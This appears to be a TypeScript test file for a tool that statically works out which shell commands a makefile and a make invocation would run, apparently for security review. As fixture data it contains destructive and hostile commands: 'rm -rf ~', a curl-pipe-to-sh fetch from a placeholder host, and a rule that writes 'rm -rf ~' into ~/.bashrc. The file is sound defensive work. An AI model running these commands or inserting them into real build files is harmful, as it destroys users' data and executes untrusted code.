// What `make` runs, as data: the invocation (analyze/scripts.ts makeInvocation) and the shell code
// of a makefile's goals (analyze/makefile.ts). The judge reading real files: tests/intercept/make.test.ts.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { expand, makeRun, parseMakefile } from '../../src/analyze/makefile.ts';
import { makeInvocation, scriptRefs } from '../../src/analyze/scripts.ts';
import { analyze } from '../../src/analyze/index.ts';

const T = '\t';
const run = (text: string, goals: string[] = [], opts = {}, include?: (n: string) => string | null) => makeRun(parseMakefile(text, include), goals, opts).lines;

test('the goals asked, their prerequisites first, as make builds them; no goal: the first ordinary target', () => {
  const mk = ['.PHONY: all clean', 'all: build test', `${T}@echo done`, 'build:', `${T}mkdir -p out`, 'test: build', `${T}-./run-tests`, 'clean:', `${T}rm -rf out`, ''].join('\n');
  assert.deepEqual(run(mk), ['mkdir -p out', './run-tests', 'echo done'], 'each prerequisite once, @ and - taken off');
  assert.deepEqual(run(mk, ['clean']), ['rm -rf out']);
  assert.deepEqual(run(mk, ['test', 'clean']), ['mkdir -p out', './run-tests', 'rm -rf out']);
  assert.deepEqual(run('.DEFAULT_GOAL := b\na:\n\techo a\nb:\n\techo b\n'), ['echo b']);
  assert.deepEqual(run('.PHONY: x\n.SUFFIXES:\nfirst:\n\techo 1\n'), ['echo 1'], 'special targets are never the default goal');
});

test('variables as make expands them: the makefile\'s (recursively, last assignment), make\'s defaults, the environment\'s as shell parameters', () => {
  const mk = 'OUT = build\nDEST ?= $(OUT)/dist\nFLAGS := -rf\nFLAGS += -v\nclean:\n\t$(RM) $(FLAGS) $(DEST) ${OUT}\n\t$(MAKE) -C sub clean\n\techo $(HOME) $$HOME $$$$\n';
  assert.deepEqual(run(mk), ['rm -f -rf -v build/dist build', 'make -C sub clean', 'echo ${HOME} $HOME $$']);
  // Command-line variables win over the makefile's own.
  assert.deepEqual(run(mk, [], { vars: [['DEST', '~']] }), ['rm -f -rf -v ~ build', 'make -C sub clean', 'echo ${HOME} $HOME $$']);
  assert.equal(expand('$(patsubst %.c,%.o,$(SRC)) $(wildcard ~/x)', new Map([['SRC', 'a.c']])), '%.c %.o a.c ~/x', 'another function leaves its arguments in sight');
  assert.equal(expand('$(call rmdir,~/data)', new Map([['rmdir', 'rm -rf $(1)']])), 'rm -rf ~/data', '$(call …) expands the variable with its arguments');
  assert.equal(expand('$(shell id -u)', new Map()), '$(id -u)', '$(shell …) is the shell\'s own substitution');
  assert.equal(expand('$(SRC:.c=.o)', new Map([['SRC', 'a.c']])), 'a.c', 'a substitution reference stands for its variable');
});

test('automatic variables come from the rule', () => {
  assert.deepEqual(run('out/app: main.o util.o\n\tcc -o $@ $^\n\tcp $< $(@D)/first\n'), ['cc -o out/app main.o util.o', 'cp main.o out/app/first']);
});

test('make runs $(shell …) and != while reading the makefile, whatever the goal', () => {
  const mk = 'NOW := $(shell date)\nX != curl -s https://x.example | sh\nok:\n\ttrue\n$(info $(shell touch flag))\n';
  const lines = run(mk, ['ok']);
  assert.ok(lines.includes('date'));
  assert.ok(lines.includes('curl -s https://x.example | sh'));
  assert.ok(lines.includes('touch flag'));
  assert.ok(lines.includes('true'));
});

test('code make runs without a recipe\'s shell: SHELL, $(file …); what it loads is named', () => {
  assert.deepEqual(run('SHELL = ./x.sh\nall:\n\ttrue\n'), ['./x.sh -c :', 'true'], 'SHELL runs every recipe line');
  assert.deepEqual(run('SHELL := /bin/bash\nall:\n\ttrue\n'), ['true'], 'a standard shell is just the shell');
  assert.deepEqual(run('$(file >~/.bashrc,rm -rf ~)\nall:\n\ttrue\n'), ["printf %s 'rm -rf ~' > ~/.bashrc", 'true'], '$(file >…) writes at parse time');
  assert.deepEqual(run("all:\n\t$(file >>$(HOME)/.profile,it's)\n"), ["printf %s 'it'\\''s' >> ${HOME}/.profile"]);
  assert.deepEqual(run('X := $(file <in.txt)\nall:\n\ttrue\n'), ['true'], 'reading a file is no code');
  assert.match(makeRun(parseMakefile('load ./ext.so\nall:\n\ttrue\n'), []).unknown.join(), /loads compiled code/);
  assert.match(makeRun(parseMakefile('X := $(guile (system "id"))\nall:\n\ttrue\n'), []).unknown.join(), /Guile/);
});

test('what make\'s syntax hides is still seen: continuations, inline recipes, ::, define, every branch of a conditional, static patterns', () => {
  const mk = [
    'a: ; echo inline',
    'b::',
    `${T}echo one`,
    'b::',
    `${T}echo two`,
    'c: long',
    `${T}for f in x y; do \\`,
    `${T}  rm -rf "$$f"; \\`,
    `${T}done`,
    'ifeq ($(MODE),safe)',
    'd:',
    `${T}echo safe`,
    'else',
    'd:',
    `${T}rm -rf ~`,
    'endif',
    'define WIPE',
    'rm -rf $(1)',
    'endef',
    'e:',
    `${T}$(call WIPE,~/.config)`,
    'objs = x.o y.o',
    '$(objs): %.o: %.c',
    `${T}cc -c $<`,
    'long:',
    '',
    '# a comment: not a rule',
    `${T}echo still long`,
    'f: ; echo \\# not a comment',
  ].join('\n');
  assert.deepEqual(run(mk, ['a']), ['echo inline']);
  assert.deepEqual(run(mk, ['b']), ['echo one', 'echo two']);
  assert.deepEqual(run(mk, ['c']), ['echo still long', 'for f in x y; do \\\n  rm -rf "$f"; \\\ndone']);
  assert.deepEqual(run(mk, ['d']), ['echo safe', 'rm -rf ~'], 'both branches: which one holds is known only when make runs');
  assert.deepEqual(run(mk, ['e']), ['rm -rf ~/.config']);
  assert.deepEqual(run(mk, ['x.o']), ['cc -c x.c']);
  const parsed = parseMakefile(mk);
  assert.ok(!parsed.rules.has('#'), 'a comment line is no rule');
  assert.deepEqual(run('t: VAR = 1\nt:\n\techo $(VAR)\n', ['t']), ['echo ${VAR}'], 'a target-specific variable is no rule of its own');
});

test('a target with no recipe of its own may be built by any pattern rule (or .DEFAULT)', () => {
  const mk = '%.o: %.c\n\tcc -c $< -o $@\n.DEFAULT:\n\trm -rf ~\nall: main.o\n\techo linked\nnamed:\n\techo named\n';
  const lines = run(mk, ['all']);
  assert.ok(lines.includes('cc -c main.c -o main.o'), 'the pattern rule, its stem filled in');
  assert.ok(lines.includes('rm -rf ~'), '.DEFAULT too');
  assert.deepEqual(run(mk, ['named']), ['echo named'], 'a target with its own recipe: not the pattern rules');
});

test('included files are read in place (their first target can be the default goal); $(eval …) is named as not followed', () => {
  const files: Record<string, string> = { 'rules.mk': 'wipe:\n\trm -rf ~\n', 'deep.mk': 'include deep.mk\n' };
  const read = (n: string) => files[n] ?? null;
  assert.deepEqual(run('include rules.mk\nall:\n\techo all\n', [], {}, read), ['rm -rf ~']);
  assert.deepEqual(run('-include missing.mk rules.mk\nall:\n\techo all\n', ['all'], {}, read), ['echo all']);
  assert.deepEqual(run('include deep.mk\nall:\n\ttrue\n', ['all'], {}, read), ['true'], 'an include loop ends');
  assert.match(makeRun(parseMakefile('include gen.mk\nall:\n\ttrue\n', read), []).unknown.join(), /includes gen\.mk, which vg did not find/, 'a plain include that is not there');
  assert.deepEqual(makeRun(parseMakefile('-include gen.mk\nall:\n\ttrue\n', read), []).unknown, [], 'an optional one is nothing');
  const mk = parseMakefile('$(foreach t,a b,$(eval $(t):; rm -rf ~))\nall:\n\ttrue\n');
  assert.match(makeRun(mk, ['a']).unknown.join(), /\$\(eval …\)/);
});

test('-n, -q, -t run no recipe but + lines and those naming $(MAKE); every rule for a MAKEFILES file; a cap on lines', () => {
  const mk = 'all:\n\trm -rf ~\n\t+touch stamp\n\t$(MAKE) -C sub\nother:\n\techo other\n';
  assert.deepEqual(run(mk, [], { dry: true }), ['touch stamp', 'make -C sub']);
  assert.deepEqual(run(mk, [], { every: true }), ['rm -rf ~', 'touch stamp', 'make -C sub', 'echo other']);
  const big = `all:\n${'\techo x\n'.repeat(50)}`;
  const r = makeRun(parseMakefile(big), [], {}, 10);
  assert.equal(r.lines.length, 10);
  assert.match(r.unknown.join(), /more than 10 recipe lines/);
});

const fact = (line: string, cwd = '/ws') => analyze(line, { cwd, home: '/home/u' }).commands.find((c) => c.name === 'make' || c.name === 'gmake')!;

test('makeInvocation: directory, makefiles, goals, variables and dry runs as make reads its arguments', () => {
  const inv = (line: string) => makeInvocation(fact(line));
  assert.deepEqual(inv('make'), { dir: '/ws', makefiles: [], goals: [], dry: false, vars: [], dynamic: false });
  assert.deepEqual(inv('make -C sub -C ../lib -f build.mk --file=more.mk -j 4 -kl2 clean all CFLAGS=-O2 PREFIX+=~'), {
    dir: '/ws/lib',
    makefiles: ['build.mk', 'more.mk'],
    goals: ['clean', 'all'],
    dry: false,
    vars: [['CFLAGS', '-O2'], ['PREFIX', '~']],
    dynamic: false,
  });
  assert.deepEqual(inv('gmake -Csub -fx.mk -j install')!.goals, ['install'], '-j without a number leaves the next word a goal');
  assert.deepEqual(inv('make --jobs 4 --load-average 2.5 --jobs=2 all')!.goals, ['all']);
  assert.equal(inv('make --directory=/opt/p')!.dir, '/opt/p');
  assert.deepEqual(inv('make -I inc --include-dir=/usr/local/mk')!.includeDirs, ['/ws/inc', '/usr/local/mk']);
  assert.equal(inv('make --directory /opt/p')!.dir, '/opt/p');
  for (const l of ['make -n wipe', 'make --dry-run', 'make -sq', 'make -t x', 'make --touch']) assert.equal(inv(l)!.dry, true, l);
  assert.deepEqual(inv('make -- -weird VAR=x')!.goals, ['-weird'], 'after --: goals (and variables)');
  assert.equal(inv('/usr/bin/make x')!.goals[0], 'x');
  for (const l of ['make $T', 'make -e x', 'make -C "$D"', 'make -f -', 'make -f /dev/stdin', 'make --eval=x:', 'make -E "x:"', 'make DEST=$X'])
    assert.equal(inv(l)!.dynamic, true, l);
});

test('scriptRefs names make (not a word that only looks like it)', () => {
  const refs = (line: string) => scriptRefs(analyze(line, { cwd: '/ws', home: '/home/u' }).commands).filter((r) => r.kind === 'make');
  assert.equal(refs('make clean').length, 1);
  assert.equal(refs('cd sub && make').at(0)?.cwd, '/ws/sub');
  assert.equal(refs('sudo make install').length, 1);
  assert.equal(refs('echo make clean').length, 0);
  assert.equal(refs('cmake ..').length, 0);
  assert.equal(refs('makepkg -si').length, 0);
});
